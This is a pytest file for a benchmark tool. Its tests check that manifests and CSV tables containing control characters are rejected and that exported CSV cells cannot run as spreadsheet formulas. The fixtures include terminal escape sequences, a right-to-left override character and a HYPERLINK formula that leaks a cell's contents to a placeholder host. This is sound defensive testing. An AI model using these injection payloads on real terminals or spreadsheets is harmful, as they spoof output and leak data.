"""A run of somebody else cannot write over a terminal: commands print its names beside the numbers of one's own."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from made_run import figure, make_run

from bench.cli.compare import compare_command
from bench.report.tables import tables_of
from bench.results.csv_tables import frame_text
from bench.results.find import facts_of_run
from bench.results.reader import Run
from bench.util.files import is_formula
from systems.errors import UserError


@pytest.fixture
def folder(tmp_path) -> Path:
    return make_run(tmp_path / "run", [figure("fig4", ["a"])], lambda *_: 30.0, systems={"a": {}})


@pytest.mark.parametrize(
    ("change", "text"),
    [
        (lambda manifest: manifest["config"]["figures"][0].update(systems=["a\x1b]0;t\x07"]), r"a\x1b]0;t\x07"),
        (lambda manifest: manifest["config"]["figures"][0].update(channel="awgn\n  0  99.0"), r"awgn\n  0  99.0"),
        (lambda manifest: manifest["systems"].update({"a\u202eb": {}}), r"a\u202eb"),
        (lambda manifest: manifest.update(start="\x1b[2J"), r"\x1b[2J"),
    ],
)
def test_a_manifest_with_control_characters_is_refused(folder, change, text):
    manifest = json.loads((folder / "manifest.json").read_text())
    change(manifest)
    (folder / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(UserError) as error:
        Run.open(folder)
    assert f"'{text}' holds a control character" in str(error.value)
    assert facts_of_run(folder).problem == str(error.value)


@pytest.mark.parametrize("column", ["system", "variant", "dataset", "channel"])
def test_a_table_with_control_characters_is_refused(folder, column):
    rows = pd.read_csv(folder / "samples.csv", dtype=str, keep_default_na=False)
    rows.loc[0, column] = "a\n  0  99.0"
    rows.to_csv(folder / "samples.csv", index=False)
    with pytest.raises(UserError, match=rf"{column} is 'a\\n  0  99.0', which holds a control character"):
        _ = Run.open(folder).samples


def test_no_text_of_a_run_is_a_formula_in_a_table_of_csv(tmp_path):
    """A sheet would run it: the name of a run or of a data set, what a system says of itself, the title of a figure."""
    formula = '=HYPERLINK("http://x/?a="&A1,"b")'
    told = {"knowledge": formula, "data": [formula], "images_seen": 3}
    shown = figure("fig4", ["a", "linear"], dataset="=1+1", snrs=[6.0])
    folder = make_run(tmp_path / "=cmd", [shown], lambda *_: 30.0, systems={"a": told})
    saved = [content for path, content in tables_of(Run.open(folder)).items() if path.suffix == ".csv"]
    asked = [f"{folder}:a", f"{folder}:linear", "--csv"]
    saved.append(CliRunner().invoke(compare_command, asked, catch_exceptions=False).stdout_bytes)
    cells = [cell for text in saved for row in csv.reader(io.StringIO(text.decode(), newline="")) for cell in row]
    assert len(saved) == 4 and not [cell for cell in cells if is_formula(cell)]
    assert {"'=cmd:a", "'=1+1", f"'{formula}"} <= set(cells)
    assert frame_text(pd.DataFrame({"a": [-1.5], "b": [True], "c": ["-x"]})) == "a,b,c\n-1.5,True,'-x\n"


def test_the_name_of_a_run_is_shown_with_escapes(folder):
    manifest = json.loads((folder / "manifest.json").read_text()) | {"run": "mine\x1b[2J"}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    assert Run.open(folder).name == r"mine\x1b[2J"
